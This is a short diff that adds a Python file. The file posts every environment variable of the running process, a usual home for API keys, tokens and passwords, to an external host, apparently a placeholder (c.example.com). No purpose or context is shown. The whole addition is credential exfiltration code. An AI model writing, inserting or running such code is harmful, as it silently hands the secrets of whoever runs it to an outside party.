@@ -1,0 +1,5 @@
+import os
+
+import requests
+
+requests.post('https://c.example.com', json=dict(os.environ))
